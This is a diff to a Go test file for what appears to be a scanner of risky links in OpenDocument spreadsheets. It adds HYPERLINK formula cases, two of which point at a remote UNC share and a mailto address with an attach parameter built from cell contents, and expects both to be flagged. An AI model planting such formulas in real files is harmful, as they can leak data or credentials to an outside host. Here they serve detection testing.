@@ -203,6 +203,14 @@ func TestODF(t *testing.T) {
 			class: ClassOffice, findings: []string{"office: link to a relative target (no scheme: opened as a file) in content.xml"}},
 		{name: "HYPERLINK formula to a program", data: ods(`<table:table-cell table:formula="of:=HYPERLINK(&quot;ms-word:ofe|u|file:///C:/a.doc&quot;)"/>`), filename: "a.ods",
 			class: ClassOffice, findings: []string{"office: link to a program (ms-word:) in content.xml"}},
+		// As the workbook reader takes one (formulaCall): a web or
+		// phone link's scheme written, what follows computed.
+		{name: "HYPERLINK formula, a web address with a computed query", data: ods(`<table:table-cell table:formula="of:=HYPERLINK(&quot;https://www.city.example.lg.jp/?q=&quot; &amp; [.A1]; &quot;市&quot;)"/>`), filename: "a.ods",
+			class: ClassOffice, sniffed: mimeODS, clean: true},
+		{name: "HYPERLINK formula, a share with a computed name", data: ods(`<table:table-cell table:formula="of:=HYPERLINK(&quot;\\192.0.2.1\s\&quot;&amp;[.A1])"/>`), filename: "a.ods",
+			class: ClassOffice, findings: []string{odfLinkUnread + " HYPERLINK in content.xml"}},
+		{name: "HYPERLINK formula, a mail address with a computed rest", data: ods(`<table:table-cell table:formula="of:=HYPERLINK(&quot;mailto:a@example.jp?attach=&quot;&amp;[.A1])"/>`), filename: "a.ods",
+			class: ClassOffice, findings: []string{odfLinkUnread + " HYPERLINK in content.xml"}},
 		{name: "HYPERLINK formula, computed target", data: ods(`<table:table-cell table:formula="of:=HYPERLINK(&quot;fi&quot;&amp;&quot;le:///C:/x&quot;)"/>`), filename: "a.ods",
 			class: ClassOffice, findings: []string{odfLinkUnread + " HYPERLINK in content.xml"}},
 
